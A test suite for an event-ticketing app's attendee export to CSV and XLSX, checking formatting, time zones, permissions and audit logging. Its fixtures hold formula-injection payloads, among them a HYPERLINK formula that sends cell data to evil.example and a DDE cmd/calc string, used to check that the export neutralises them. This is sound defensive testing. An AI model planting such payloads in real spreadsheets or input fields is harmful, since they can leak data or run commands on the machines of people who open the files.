import { env } from "cloudflare:workers";
import { parse } from "csv-parse/sync";
import { XMLParser, XMLValidator } from "fast-xml-parser";
import { unzipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { newId } from "@/lib/ids";
import { sqlTime } from "@/lib/sql-time";
import { attendeeListChunks } from "@/domain/exports/attendee-export";
import { en } from "@/i18n/en";
import { attendeeBatches } from "@/domain/exports/repo";
import { formatDecimal, zonedMinuteFormatter } from "@/domain/exports/columns";
import { readableFrom } from "@/domain/exports/stream";
import { xlsxChunks } from "@/domain/exports/xlsx";
import { getAs, signedInAs } from "./auth-helpers";
import { createEvent, db, fetchWorker } from "./helpers";

const HEADERS = [
  "Order reference",
  "Attendee name",
  "Attendee email",
  "Ticket type",
  "Price paid",
  "Currency",
  "Ticket status",
  "Checked in at (Europe/London time)",
  "Buyer name",
  "Buyer email",
  "Eligibility answer",
  "Ordered at (Europe/London time)",
  "Paid at (Europe/London time)",
  "Voucher",
  "Discount",
];

/** Columns of times: date cells in the workbook, "YYYY-MM-DD HH:MM" in the CSV. */
const TIME_COLUMNS = [7, 11, 12];

/** A spreadsheet serial date (days since 1899-12-30) as "YYYY-MM-DD HH:MM" of the same clock reading. */
const serialText = (serial: number) => new Date(Math.round((serial - 25569) * 86_400_000)).toISOString().slice(0, 16).replace("T", " ");

type Event = Awaited<ReturnType<typeof createEvent>>;
type TicketInput = { name: string; email?: string; tier?: number; status?: string; checkedInAt?: string; answer?: string };

/** Writes an order and its tickets as placeOrder does: one batch, tickets in the order given. */
async function addOrder(
  event: Event,
  order: { reference: string; status: string; createdAt: string; paidAt?: string; buyerName?: string; buyerEmail?: string; tickets: TicketInput[] },
) {
  const orderId = newId("ord");
  // References are unique across the file's database: prefix them with the event's id.
  const reference = `${event.id.slice(4, 10).toUpperCase()}-${order.reference}`;
  const created = sqlTime(new Date(order.createdAt));
  const price = (t: TicketInput) => event.ticketTypes[t.tier ?? 0]!.priceMinor;
  await env.DB.batch([
    env.DB.prepare(
      `INSERT INTO "Order" ("id", "eventId", "reference", "buyerName", "buyerEmail", "status", "totalMinor", "currency", "createdAt", "paidAt", "updatedAt")
       VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, 'GBP', ?8, ?9, ?8)`,
    ).bind(
      orderId,
      event.id,
      reference,
      order.buyerName ?? "Ada Buyer",
      order.buyerEmail ?? "ada@example.org",
      order.status,
      order.tickets.reduce((sum, t) => sum + price(t), 0),
      created,
      order.paidAt ? sqlTime(new Date(order.paidAt)) : null,
    ),
    ...order.tickets.map((t) =>
      env.DB.prepare(
        `INSERT INTO "Ticket" ("id", "orderId", "eventId", "ticketTypeId", "attendeeName", "attendeeEmail", "eligibilityAnswer", "pricePaidMinor", "status", "token", "checkedInAt", "createdAt", "updatedAt")
         VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8, ?9, ?10, ?11, ?12, ?12)`,
      ).bind(
        newId("tkt"),
        orderId,
        event.id,
        event.ticketTypes[t.tier ?? 0]!.id,
        t.name,
        t.email ?? null,
        t.answer ?? null,
        price(t),
        t.status ?? (order.status === "paid" || order.status === "partially_refunded" ? "valid" : order.status === "pending" ? "pending" : "cancelled"),
        newId("tok"),
        t.checkedInAt ? sqlTime(new Date(t.checkedInAt)) : null,
        created,
      ),
    ),
  ]);
}

const HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")';

/** An event with orders in every state, awkward names and formula-like input; times in June are BST. */
async function conference() {
  const event = await createEvent({
    title: "Export Conference",
    tiers: [
      { name: "Member", priceMinor: 800, eligibility: "member_list" },
      { name: "Non-member", priceMinor: 1300 },
      { name: "Guest, free", priceMinor: 0 },
    ],
  });
  await addOrder(event, {
    reference: "0001",
    status: "paid",
    createdAt: "2027-01-15T18:00:00Z",
    paidAt: "2027-01-15T18:02:00Z",
    buyerName: "Nuñez Pérez, María",
    buyerEmail: "maria@example.org",
    tickets: [
      { name: "Nuñez Pérez", email: "nunez@example.org", answer: "Member M1001", checkedInAt: "2027-07-03T09:45:00Z" },
      { name: 'O\'Brien "Bob", Jr.', tier: 1 },
      { name: "Line one\r\nLine two", tier: 2 },
    ],
  });
  await addOrder(event, { reference: "0002", status: "pending", createdAt: "2027-06-01T08:00:00Z", tickets: [{ name: "Penny Pending" }] });
  await addOrder(event, { reference: "0003", status: "expired", createdAt: "2027-06-01T08:30:00Z", tickets: [{ name: "Eddie Expired" }] });
  await addOrder(event, { reference: "0004", status: "cancelled", createdAt: "2027-06-01T08:40:00Z", tickets: [{ name: "Abandoned Checkout" }] });
  await addOrder(event, {
    reference: "0005",
    status: "paid",
    createdAt: "2027-06-01T09:05:00Z",
    paidAt: "2027-06-01T09:07:30Z",
    buyerName: "@SUM(1+1)*cmd|' /C calc'!A0",
    buyerEmail: "=1+2@example.org",
    tickets: [
      { name: HYPERLINK, tier: 1 },
      { name: "+1", tier: 1 },
      { name: "-2", tier: 1 },
      { name: "\tTabbed", tier: 1, answer: "\rReturn" },
      { name: "Ann-Marie Smith", tier: 1 },
    ],
  });
  await addOrder(event, { reference: "0006", status: "refunded", createdAt: "2027-06-02T10:00:00Z", paidAt: "2027-06-02T10:01:00Z", tickets: [{ name: "Rita Refunded", tier: 1 }] });
  await addOrder(event, { reference: "0007", status: "cancelled", createdAt: "2027-06-03T10:00:00Z", paidAt: "2027-06-03T10:01:00Z", tickets: [{ name: "Carl Cancelled", tier: 1 }] });
  await addOrder(event, {
    reference: "0008",
    status: "partially_refunded",
    createdAt: "2027-06-04T10:00:00Z",
    paidAt: "2027-06-04T10:01:00Z",
    tickets: [{ name: "Stays Valid", tier: 1 }, { name: "Was Refunded", tier: 1, status: "cancelled" }],
  });
  // Another event's tickets, in between, must not leak in.
  const other = await createEvent({ title: "Other event" });
  await addOrder(other, { reference: "0001", status: "paid", createdAt: "2027-06-01T09:00:00Z", paidAt: "2027-06-01T09:00:00Z", tickets: [{ name: "Someone Else" }] });
  await addOrder(event, { reference: "0009", status: "paid", createdAt: "2027-06-05T10:00:00Z", paidAt: "2027-06-05T10:00:00Z", tickets: [{ name: "Last Person" }] });
  return event;
}

async function bytesOf(res: Response): Promise<Uint8Array> {
  return new Uint8Array(await res.arrayBuffer());
}

/** Parses a CSV download strictly: BOM, CRLF records, RFC 4180 quotes, the same number of fields everywhere. */
function parseCsv(bytes: Uint8Array): string[][] {
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = new TextDecoder().decode(bytes);
  expect(text.endsWith("\r\n")).toBe(true);
  return parse(text, { bom: true, record_delimiter: "\r\n", relax_column_count: false }) as string[][];
}

const decodeXlsxText = (s: string) => s.replace(/_x([0-9A-Fa-f]{4})_/g, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)));

/** The CRC-32 of `bytes` as the runtime's own gzip computes it (the last 8 bytes: CRC, size). */
async function gzipCrc(bytes: Uint8Array): Promise<number> {
  const gz = new Uint8Array(await new Response(new Blob([bytes]).stream().pipeThrough(new CompressionStream("gzip"))).arrayBuffer());
  return new DataView(gz.buffer, gz.byteOffset).getUint32(gz.length - 8, true);
}

/** Name, CRC-32 and sizes of each entry, from the ZIP's central directory. */
function centralDirectory(zip: Uint8Array) {
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  const end = zip.length - 22;
  expect(view.getUint32(end, true)).toBe(0x06054b50);
  const entries: Array<{ name: string; crc: number; compressed: number; size: number }> = [];
  let at = view.getUint32(end + 16, true);
  for (let i = 0; i < view.getUint16(end + 10, true); i++) {
    expect(view.getUint32(at, true)).toBe(0x02014b50);
    const nameLength = view.getUint16(at + 28, true);
    const name = new TextDecoder().decode(zip.subarray(at + 46, at + 46 + nameLength));
    entries.push({ name, crc: view.getUint32(at + 16, true), compressed: view.getUint32(at + 20, true), size: view.getUint32(at + 24, true) });
    at += 46 + nameLength + view.getUint16(at + 30, true) + view.getUint16(at + 32, true);
  }
  return entries;
}

type XlsxCell = { text?: string; number?: number; style: string | undefined; formula: boolean };

/** Unzips an XLSX with fflate and reads it with an XML parser: every part well-formed, cells by row. */
async function readXlsx(bytes: Uint8Array) {
  const files = unzipSync(bytes);
  // Excel refuses a file whose CRCs are wrong; fflate does not check them, so check here.
  for (const entry of centralDirectory(bytes)) {
    expect(entry.size, entry.name).toBe(files[entry.name]!.length);
    expect(entry.crc, entry.name).toBe(await gzipCrc(files[entry.name]!));
  }
  const xml = (name: string) => {
    expect(files[name], name).toBeDefined();
    const text = new TextDecoder().decode(files[name]);
    expect(XMLValidator.validate(text), name).toBe(true);
    return text;
  };
  const parser = new XMLParser({
    ignoreAttributes: false,
    attributeNamePrefix: "",
    parseTagValue: false,
    parseAttributeValue: false,
    trimValues: false,
    isArray: (name) => ["row", "c", "col", "font", "xf", "Override", "Relationship"].includes(name),
  });
  const sheet = parser.parse(xml("xl/worksheets/sheet1.xml")).worksheet;
  // Cells by column (from each cell's A1 reference): an empty cell is simply absent.
  const rows: Array<Array<XlsxCell | undefined>> = (sheet.sheetData.row ?? []).map((row: { r: string; c: Array<Record<string, any>> }, i: number) => {
    expect(row.r).toBe(String(i + 1));
    const cells: Array<XlsxCell | undefined> = Array(HEADERS.length).fill(undefined);
    for (const c of row.c) {
      const [, column, rowNumber] = /^([A-Z]+)(\d+)$/.exec(c.r)!;
      expect(rowNumber).toBe(row.r);
      const t = c.is?.t;
      const text = typeof t === "string" ? t : typeof t === "object" ? (t["#text"] ?? "") : undefined;
      cells[column!.charCodeAt(0) - 65] = {
        text: c.t === "inlineStr" ? decodeXlsxText(text ?? "") : undefined,
        number: c.t === undefined && c.v !== undefined ? Number(c.v) : undefined,
        style: c.s,
        formula: "f" in c,
      };
    }
    return cells;
  });
  return {
    files,
    sheet,
    rows,
    styles: parser.parse(xml("xl/styles.xml")).styleSheet,
    workbook: parser.parse(xml("xl/workbook.xml")).workbook,
    contentTypes: parser.parse(xml("[Content_Types].xml")).Types,
    rels: parser.parse(xml("_rels/.rels")).Relationships,
    workbookRels: parser.parse(xml("xl/_rels/workbook.xml.rels")).Relationships,
  };
}

const byName = (records: string[][], name: string) => records.find((r) => r[1] === name);

describe("attendee export as CSV", () => {
  it("lists every ticket of paid, refunded and cancelled orders, in order, with the agreed columns", async () => {
    const event = await conference();
    const owner = await signedInAs("owner");
    const res = await getAs(owner, `/admin/events/${event.id}/attendees.csv`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe(`attachment; filename="${event.slug}-attendees.csv"`);
    expect(res.headers.get("cache-control")).toBe("private, no-store");

    const [header, ...records] = parseCsv(await bytesOf(res));
    expect(header).toEqual(HEADERS);
    const prefix = `${event.id.slice(4, 10).toUpperCase()}-`;
    expect(records.map((r) => r[0]!.replace(prefix, "EXP-"))).toEqual([
      ...Array(3).fill("EXP-0001"),
      ...Array(5).fill("EXP-0005"),
      "EXP-0006",
      "EXP-0007",
      "EXP-0008",
      "EXP-0008",
      "EXP-0009",
    ]);
    expect(records.map((r) => r[1])).not.toContain("Penny Pending");
    expect(records.map((r) => r[1])).not.toContain("Eddie Expired");
    expect(records.map((r) => r[1])).not.toContain("Abandoned Checkout");
    expect(records.map((r) => r[1])).not.toContain("Someone Else");
    // January is GMT, June and July are BST (UTC+1).
    expect(records[0]).toEqual([
      `${prefix}0001`,
      "Nuñez Pérez",
      "nunez@example.org",
      "Member",
      "8.00",
      "GBP",
      "valid",
      "2027-07-03 10:45",
      "Nuñez Pérez, María",
      "maria@example.org",
      "Member M1001",
      "2027-01-15 18:00",
      "2027-01-15 18:02",
      "",
      "",
    ]);
    expect(byName(records, "Ann-Marie Smith")!.slice(4, 8)).toEqual(["13.00", "GBP", "valid", ""]);
    expect(byName(records, "Ann-Marie Smith")!.slice(11)).toEqual(["2027-06-01 10:05", "2027-06-01 10:07", "", ""]);
    expect(byName(records, "Line one\r\nLine two")!.slice(3, 5)).toEqual(["Guest, free", "0.00"]);
  });

  it("brings names with commas, quotes, line breaks and accents back unchanged", async () => {
    const event = await conference();
    const organiser = await signedInAs("organiser");
    const bytes = await bytesOf(await getAs(organiser, `/admin/events/${event.id}/attendees.csv`));
    const records = parseCsv(bytes);
    expect(records.map((r) => r[1])).toEqual(expect.arrayContaining(["Nuñez Pérez", 'O\'Brien "Bob", Jr.', "Line one\r\nLine two"]));
    expect(byName(records, "Nuñez Pérez")![8]).toBe("Nuñez Pérez, María");
    const raw = new TextDecoder().decode(bytes);
    expect(raw).toContain('"O\'Brien ""Bob"", Jr."');
    expect(raw).toContain(`"'\rReturn"`); // a bare CR is a line break to Excel, so it is quoted too
  });

  it("neutralises cells a spreadsheet would run as formulas, and only text cells", async () => {
    const event = await conference();
    const owner = await signedInAs("owner");
    const records = parseCsv(await bytesOf(await getAs(owner, `/admin/events/${event.id}/attendees.csv`)));
    const names = records.map((r) => r[1]);
    expect(names).toEqual(expect.arrayContaining([`'${HYPERLINK}`, "'+1", "'-2", "'\tTabbed", "Ann-Marie Smith"]));
    const tabbed = records.find((r) => r[1] === "'\tTabbed")!;
    expect(tabbed[10]).toBe("'\rReturn");
    expect(tabbed[8]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(tabbed[9]).toBe("'=1+2@example.org");
    for (const record of records.slice(1)) {
      expect(record[4]).toMatch(/^\d+\.\d\d$/);
      for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it("shows refunded and cancelled tickets with their status, and check-in times when set", async () => {
    const event = await conference();
    const owner = await signedInAs("owner");
    const records = parseCsv(await bytesOf(await getAs(owner, `/admin/events/${event.id}/attendees.csv`))).slice(1);
    const status = (name: string) => byName(records, name)![6];
    expect(status("Rita Refunded")).toBe("refunded");
    expect(status("Carl Cancelled")).toBe("cancelled");
    expect(status("Was Refunded")).toBe("cancelled");
    expect(status("Stays Valid")).toBe("valid");
    expect(records.filter((r) => r[7] !== "").map((r) => [r[1], r[7]])).toEqual([["Nuñez Pérez", "2027-07-03 10:45"]]);
  });

  it("records who exported which event in the audit log", async () => {
    const event = await conference();
    const organiser = await signedInAs("organiser");
    await (await getAs(organiser, `/admin/events/${event.id}/attendees.csv`)).arrayBuffer();
    const entries = await db.auditEntry.findMany({ where: { entity: "event", entityId: event.id } });
    expect(entries).toEqual([expect.objectContaining({ staffId: organiser.staff.id, action: "exported_attendees", detail: '{"format":"csv"}' })]);
  });

  it("gives the same rows whatever the page size", async () => {
    const event = await conference();
    const all: string[] = [];
    for await (const batch of attendeeBatches(env.DB, event.id, 500)) all.push(...batch.map((r) => r.attendeeName));
    const paged: string[] = [];
    const sizes: number[] = [];
    for await (const batch of attendeeBatches(env.DB, event.id, 2)) {
      sizes.push(batch.length);
      paged.push(...batch.map((r) => r.attendeeName));
    }
    expect(all).toHaveLength(13);
    expect(paged).toEqual(all);
    expect(sizes).toEqual([2, 2, 2, 2, 2, 2, 1]);
    const csv = async (size: number) => {
      const chunks: Uint8Array[] = [];
      for await (const chunk of attendeeListChunks(env.DB, event, "csv", en.exports, size)) chunks.push(chunk);
      return new TextDecoder().decode(await new Blob(chunks).arrayBuffer());
    };
    expect(await csv(3)).toBe(await csv(500));
  });
});

describe("attendee export as XLSX", () => {
  it("opens with an independent reader and holds the same values as the CSV", async () => {
    const event = await conference();
    const owner = await signedInAs("owner");
    const res = await getAs(owner, `/admin/events/${event.id}/attendees.xlsx`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    expect(res.headers.get("content-disposition")).toBe(`attachment; filename="${event.slug}-attendees.xlsx"`);
    expect(res.headers.get("cache-control")).toBe("private, no-store");
    const book = await readXlsx(await bytesOf(res));
    const csv = parseCsv(await bytesOf(await getAs(owner, `/admin/events/${event.id}/attendees.csv`)));

    expect(book.rows).toHaveLength(csv.length);
    book.rows.forEach((row, i) => {
      csv[i]!.forEach((value, col) => {
        const cell = row[col];
        if (value === "") return expect(cell, `row ${i} col ${col}`).toBeUndefined();
        expect(cell!.formula).toBe(false);
        if (i > 0 && col === 4) {
          expect(cell!.number).toBe(Number(value));
          expect(cell!.style).toBe("4"); // "0.00"
        } else if (i > 0 && TIME_COLUMNS.includes(col)) {
          // A real date: a serial number of the event's wall clock, with a date-time format.
          expect(cell!.text, `row ${i} col ${col}`).toBeUndefined();
          expect(serialText(cell!.number!)).toBe(value);
          const format = book.styles.numFmts.numFmt.find((f: { numFmtId: string }) => f.numFmtId === book.styles.cellXfs.xf[Number(cell!.style)].numFmtId);
          expect(format.formatCode).toBe("yyyy-mm-dd hh:mm");
        } else {
          // The CSV's quote before formula-like text is the only difference.
          expect(value).toBe(/^[=+\-@\t\r]/.test(cell!.text!) ? `'${cell!.text}` : cell!.text);
        }
      });
    });
    expect(book.rows.flat().filter(Boolean)).toHaveLength(csv.flat().filter((v) => v !== "").length);
  });

  it("is a proper workbook: bold frozen header, column widths, filter, quote prefix on formula-like text", async () => {
    const event = await conference();
    const owner = await signedInAs("owner");
    const book = await readXlsx(await bytesOf(await getAs(owner, `/admin/events/${event.id}/attendees.xlsx`)));
    expect(Object.keys(book.files).sort()).toEqual(
      ["[Content_Types].xml", "_rels/.rels", "xl/_rels/workbook.xml.rels", "xl/styles.xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml"].sort(),
    );
    expect(book.contentTypes.Override.map((o: { PartName: string }) => o.PartName).sort()).toEqual(["/xl/styles.xml", "/xl/workbook.xml", "/xl/worksheets/sheet1.xml"]);
    expect(book.rels.Relationship[0].Target).toBe("xl/workbook.xml");
    expect(book.workbook.sheets.sheet.name).toBe("Attendees");

    const headerStyle = book.styles.cellXfs.xf[Number(book.rows[0]![0]!.style)];
    expect(book.styles.fonts.font[Number(headerStyle.fontId)]).toHaveProperty("b");
    expect(book.rows[1]!.every((c) => c?.style !== book.rows[0]![0]!.style)).toBe(true);
    expect(book.sheet.sheetViews.sheetView.pane).toMatchObject({ ySplit: "1", state: "frozen" });
    expect(book.sheet.cols.col).toHaveLength(15);
    for (const col of book.sheet.cols.col) expect(Number(col.width)).toBeGreaterThanOrEqual(9);
    expect(book.sheet.autoFilter.ref).toBe(`A1:O${book.rows.length}`);
    expect(book.workbook.definedNames.definedName["#text"]).toBe(`'Attendees'!$A$1:$O$${book.rows.length}`);

    const hyperlink = book.rows.find((r) => r[1]?.text === HYPERLINK)!;
    expect(book.styles.cellXfs.xf[Number(hyperlink[1]!.style)].quotePrefix).toBe("1");
    const plain = book.rows.find((r) => r[1]?.text === "Ann-Marie Smith")!;
    expect(plain[1]!.style).toBeUndefined();
  });

  it("keeps control characters and Excel's own escapes intact", async () => {
    const event = await createEvent({ tiers: [{ name: "A_x0041_ <b>&amp;", priceMinor: 1250 }] });
    await addOrder(event, { reference: "1", status: "paid", createdAt: "2027-03-01T12:00:00Z", paidAt: "2027-03-01T12:00:00Z", tickets: [{ name: "Bell\u0007 and CR\r here " }] });
    const owner = await signedInAs("owner");
    const book = await readXlsx(await bytesOf(await getAs(owner, `/admin/events/${event.id}/attendees.xlsx`)));
    expect(book.rows[1]![1]!.text).toBe("Bell\u0007 and CR\r here ");
    expect(book.rows[1]![3]!.text).toBe("A_x0041_ <b>&amp;");
    expect(book.rows[1]![4]!.number).toBe(12.5);
  });
});

describe("an event nobody has registered for", () => {
  it("exports just the header row, in both formats", async () => {
    const event = await createEvent();
    const owner = await signedInAs("owner");
    expect(parseCsv(await bytesOf(await getAs(owner, `/admin/events/${event.id}/attendees.csv`)))).toEqual([HEADERS]);
    const book = await readXlsx(await bytesOf(await getAs(owner, `/admin/events/${event.id}/attendees.xlsx`)));
    expect(book.rows.map((r) => r.map((c) => c?.text))).toEqual([HEADERS]);
    expect(book.sheet.autoFilter.ref).toBe("A1:O1");
  });
});

describe("who may export", () => {
  it("lets owners and organisers export, refuses door staff and sends anonymous people to sign in", async () => {
    const event = await conference();
    for (const format of ["csv", "xlsx"]) {
      const path = `/admin/events/${event.id}/attendees.${format}`;
      expect((await getAs(await signedInAs("owner"), path)).status).toBe(200);
      expect((await getAs(await signedInAs("organiser"), path)).status).toBe(200);
      const door = await getAs(await signedInAs("door", { events: [event.id] }), path);
      expect(door.status).toBe(403);
      expect(await door.text()).not.toContain("Nuñez");
      const anonymous = await fetchWorker(path, { redirect: "manual" });
      expect(anonymous.status).toBe(303);
      expect(anonymous.headers.get("location")).toBe(`/admin/sign-in?next=${encodeURIComponent(path)}`);
    }
  });

  it("answers the API with a token or a session, and 401 JSON without", async () => {
    const event = await conference();
    const path = `/api/v1/events/${event.slug}/attendees.csv`;
    const organiser = await signedInAs("organiser");
    const withToken = await fetchWorker(path, { headers: { authorization: `Bearer ${organiser.apiToken}` } });
    expect(withToken.status).toBe(200);
    expect(withToken.headers.get("content-disposition")).toBe(`attachment; filename="${event.slug}-attendees.csv"`);
    expect(parseCsv(await bytesOf(withToken))).toHaveLength(14);
    expect((await getAs(organiser, path)).status).toBe(200);

    const anonymous = await fetchWorker(path);
    expect(anonymous.status).toBe(401);
    expect(await anonymous.json()).toEqual({ error: { code: "unauthorized", message: expect.any(String) } });
    const forged = await fetchWorker(path, { headers: { authorization: "Bearer tok_not-a-real-token" } });
    expect(forged.status).toBe(401);
    const door = await signedInAs("door");
    const doorRes = await fetchWorker(path, { headers: { authorization: `Bearer ${door.apiToken}` } });
    expect(doorRes.status).toBe(403);
    expect(await doorRes.json()).toMatchObject({ error: { code: "forbidden" } });
  });

  it("answers 404 for an event that does not exist", async () => {
    const owner = await signedInAs("owner");
    expect((await getAs(owner, "/admin/events/evt_missing/attendees.csv")).status).toBe(404);
    expect((await getAs(owner, "/admin/events/evt_missing/attendees.xlsx")).status).toBe(404);
    const api = await fetchWorker("/api/v1/events/no-such-event/attendees.csv", { headers: { authorization: `Bearer ${owner.apiToken}` } });
    expect(api.status).toBe(404);
    expect(await api.json()).toMatchObject({ error: { code: "not_found" } });
  });
});

describe("large exports", () => {
  it("exports all 2,000 tickets of a big event, in order, as CSV and XLSX", async () => {
    const event = await createEvent({ tiers: [{ name: "Standard", priceMinor: 1000 }] });
    const tier = event.ticketTypes[0]!.id;
    // 1,100 orders of two tickets; every eleventh is still pending, leaving 1,000 paid orders.
    await env.DB.batch([
      env.DB.prepare(
        `WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 1100)
         INSERT INTO "Order" ("id", "eventId", "reference", "buyerName", "buyerEmail", "status", "totalMinor", "currency", "createdAt", "paidAt", "updatedAt")
         SELECT 'ord_big' || i, ?1, 'BIG-' || substr('0000' || i, -5), 'Buyer ' || i, 'buyer' || i || '@example.org',
           CASE WHEN i % 11 = 0 THEN 'pending' ELSE 'paid' END, 2000, 'GBP',
           strftime('%Y-%m-%dT%H:%M:%f+00:00', '2027-02-01', '+' || i || ' minutes'),
           CASE WHEN i % 11 = 0 THEN NULL ELSE strftime('%Y-%m-%dT%H:%M:%f+00:00', '2027-02-01', '+' || i || ' minutes') END,
           '2027-02-01T00:00:00.000+00:00'
         FROM n`,
      ).bind(event.id),
      env.DB.prepare(
        `WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < 2199)
         INSERT INTO "Ticket" ("id", "orderId", "eventId", "ticketTypeId", "attendeeName", "pricePaidMinor", "status", "token", "createdAt", "updatedAt")
         SELECT 'tkt_big' || i, 'ord_big' || (i / 2 + 1), ?1, ?2, 'Attendee ' || i, 1000,
           CASE WHEN (i / 2 + 1) % 11 = 0 THEN 'pending' ELSE 'valid' END, 'token_big' || i,
           '2027-02-01T00:00:00.000+00:00', '2027-02-01T00:00:00.000+00:00'
         FROM n`,
      ).bind(event.id, tier),
    ]);
    const organiser = await signedInAs("organiser");
    const res = await fetchWorker(`/api/v1/events/${event.slug}/attendees.csv`, { headers: { authorization: `Bearer ${organiser.apiToken}` } });
    const records = parseCsv(await bytesOf(res)).slice(1);
    expect(records).toHaveLength(2000);
    const expectedNames = Array.from({ length: 2200 }, (_, i) => i)
      .filter((i) => (Math.floor(i / 2) + 1) % 11 !== 0)
      .map((i) => `Attendee ${i}`);
    expect(records.map((r) => r[1])).toEqual(expectedNames);

    const book = await readXlsx(await bytesOf(await getAs(organiser, `/admin/events/${event.id}/attendees.xlsx`)));
    expect(book.rows).toHaveLength(2001);
    expect(book.rows.at(-1)![1]!.text).toBe(records.at(-1)![1]);
  });
});

describe("export building blocks", () => {
  it("streams lazily: nothing is produced before the reader asks", async () => {
    let produced = 0;
    async function* chunks() {
      for (let i = 0; i < 100; i++) {
        produced++;
        yield new Uint8Array([i]);
      }
    }
    const reader = readableFrom(chunks()).getReader();
    await new Promise((r) => setTimeout(r, 10));
    expect(produced).toBe(0);
    await reader.read();
    await reader.read();
    await new Promise((r) => setTimeout(r, 10));
    expect(produced).toBeLessThanOrEqual(3);
    await reader.cancel();
  });

  it("does not run ahead of a slow reader when compressing an XLSX", async () => {
    let produced = 0;
    async function* batches() {
      for (let b = 0; b < 400; b++) {
        produced++;
        yield Array.from({ length: 500 }, (_, i) => `Row ${b}-${i} ${crypto.randomUUID()}`);
      }
    }
    const columns = [{ header: "Name", width: 20 }];
    const reader = readableFrom(xlsxChunks({ name: "Test", columns, batches: batches(), cells: (row: string) => [row] })).getReader();
    for (let i = 0; i < 30; i++) await reader.read(); // the small parts, then the sheet
    await new Promise((r) => setTimeout(r, 50));
    expect(produced).toBeGreaterThan(0);
    expect(produced).toBeLessThan(40); // of 400: only what the chunks read so far needed
    await reader.cancel();
  });

  it("writes exact decimal amounts", () => {
    expect(formatDecimal({ minor: 800, decimals: 2 })).toBe("8.00");
    expect(formatDecimal({ minor: 5, decimals: 2 })).toBe("0.05");
    expect(formatDecimal({ minor: 1200, decimals: 0 })).toBe("1200");
    expect(formatDecimal({ minor: 12345, decimals: 3 })).toBe("12.345");
  });

  it("shows times in the event's zone across daylight-saving changes", () => {
    const london = zonedMinuteFormatter("Europe/London");
    expect(london(Date.parse("2027-03-28T00:59:00Z"))).toBe("2027-03-28 00:59");
    expect(london(Date.parse("2027-03-28T01:00:00Z"))).toBe("2027-03-28 02:00");
    expect(london(Date.parse("2027-10-31T00:59:00Z"))).toBe("2027-10-31 01:59");
    expect(london(Date.parse("2027-10-31T01:00:00Z"))).toBe("2027-10-31 01:00");
    const kolkata = zonedMinuteFormatter("Asia/Kolkata");
    expect(kolkata(Date.parse("2027-01-01T00:00:00Z"))).toBe("2027-01-01 05:30");
    const newYork = zonedMinuteFormatter("America/New_York");
    expect(newYork(Date.parse("2027-01-01T03:00:00Z"))).toBe("2026-12-31 22:00");
  });
});
